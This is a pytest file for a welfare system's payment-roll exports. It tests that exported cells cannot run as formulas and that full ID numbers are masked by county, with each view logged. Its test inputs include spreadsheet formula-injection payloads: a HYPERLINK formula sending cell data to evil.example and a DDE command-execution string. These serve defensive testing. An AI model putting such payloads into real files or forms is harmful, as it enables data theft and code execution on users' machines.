"""Exports cannot carry live formulas; full ID numbers are for county staff of each row's county, and every
view of them is recorded and shown to that county's supervisor."""
from __future__ import annotations

import csv
import io
from datetime import date, datetime, timezone

import pytest
from openpyxl import load_workbook
from sqlalchemy import insert, select

from engine.store.models import IdReveal, Recipient
from tests.factories import start

FULL_ID = "320921197001011236"
# Names as an applicant (or a clerk's typo) could enter them: each one is a formula or DDE trigger.
HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?d="&D3,"点击领取")', "+1+1", "-2+3", "@SUM(A1:A9)",
                 "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


def _recipient(unit_id, case_id: int, county: str, township: str, village: str, name: str, id_number: str) -> dict:
    return {"assistance_type": "minimum_living", "case_id": case_id, "county_id": unit_id(county),
            "township_id": unit_id(township), "village_id": unit_id(village), "applicant_name": name,
            "applicant_id_number": id_number, "household_size": 2, "monthly_amount": 900.0,
            "payment_from": date(2026, 6, 1), "stopped_from": None, "review_class": "B",
            "next_review_on": date(2027, 1, 1), "review_case_id": None, "status": "active",
            "updated_at": datetime.now(timezone.utc)}


@pytest.fixture
def register(db, clock, who, unit_id):
    """Recipients in 响水县 (the hostile names and one plain one) and one in 四平市铁西区."""
    rows = []
    for i, name in enumerate([*HOSTILE_NAMES, "王小明"]):
        case_id = start(db, clock, who, unit_id).case_id
        rows.append(_recipient(unit_id, case_id, "320921", "320921100", "320921100201", name,
                               FULL_ID if i == 0 else f"32092119700101{i:03d}1"))
    siping_case = start(db, clock, who, unit_id).case_id
    rows.append(_recipient(unit_id, siping_case, "220302", "220302001", "220302001001", "铁西户主", "220302198001010011"))
    with db.unit_of_work(write=True) as uow:
        s = uow.session
        s.execute(insert(Recipient), rows)
        uow.commit()
    return rows


def _csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


def test_csv_cells_that_would_run_as_formulas_are_neutralised(register, login):
    response = login("county_mz").get("/reports/payment-roll?month=2026-12&format=csv&full=1")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Cache-Control"] == "no-store"
    names = [line[2] for line in _csv(response)[2:]]
    assert sorted(names) == sorted(["'" + n for n in HOSTILE_NAMES] + ["王小明"])
    assert FULL_ID in response.data.decode("utf-8-sig")


def test_xlsx_cells_are_text_never_formulas(register, login):
    response = login("county_mz").get("/reports/payment-roll?month=2026-12&format=xlsx&full=1")
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    for cell in cells:
        if isinstance(cell.value, str):
            assert cell.data_type == "s"
            assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
    names = {row[2] for row in sheet.iter_rows(min_row=3, values_only=True)}
    assert names == {"'" + n for n in HOSTILE_NAMES} | {"王小明"}
    assert FULL_ID in {row[3] for row in sheet.iter_rows(min_row=3, values_only=True)}


def test_full_numbers_are_refused_for_county_staff_of_another_county(register, login, new_user, unit_id):
    # County staff in 铁西区, supervisor in 响水县: may see 响水县's roll, but not its full ID numbers.
    username = new_user(("county", "220302"), ("county_supervisor", "320921"))
    user = login(username)
    xiangshui, tiexi = unit_id("320921"), unit_id("220302")
    for query in (f"county={xiangshui}&full=1", "full=1"):
        refused = user.get(f"/reports/payment-roll?month=2026-12&format=csv&{query}")
        assert refused.status_code == 403 and FULL_ID not in refused.text
        assert "仅限本县（区）民政局" in refused.text
    masked = user.get(f"/reports/payment-roll?month=2026-12&format=csv&county={xiangshui}").data.decode("utf-8-sig")
    assert FULL_ID not in masked and "320921********1236" in masked
    own = user.get(f"/reports/payment-roll?month=2026-12&format=csv&county={tiexi}&full=1").data.decode("utf-8-sig")
    assert "220302198001010011" in own and "320921" not in own.split("\n", 2)[2]
    assert user.get(f"/reports/payment-roll?month=2026-12&county={unit_id('340603')}").status_code == 403


def test_every_view_of_full_numbers_is_recorded_and_shown_to_that_countys_supervisor(register, login, db, unit_id):
    county = login("county_mz")
    county.get("/reports/payment-roll?month=2026-12&format=xlsx&full=1")
    county.get("/reports/payment-roll?month=2026-12&format=csv")  # masked: nothing to record
    with db.unit_of_work() as uow:
        s = uow.session
        [reveal] = s.execute(select(IdReveal)).scalars().all()
    assert (reveal.county_id, reveal.kind, reveal.row_count) == (unit_id("320921"), "payment_roll", 8)
    assert "发放名册" in reveal.description and "xlsx" in reveal.description and reveal.address == "127.0.0.1"

    page = login("supervisor").get("/supervisor/id-reveals")
    assert page.status_code == 200 and "县民政局 周科员" in page.text and 'class="row-count">8<' in page.text
    other = login("supervisor_tx").get("/supervisor/id-reveals")
    assert other.status_code == 200 and "周科员" not in other.text
    assert county.get("/supervisor/id-reveals").status_code == 403


def test_export_parameters_are_checked(register, login):
    county = login("county_mz")
    assert county.get("/reports/payment-roll?month=2026-12&format=pdf").status_code == 400
    assert county.get("/reports/payment-roll?month=12-2026").status_code == 400
    assert county.get("/reports/everything?month=2026-12").status_code == 404
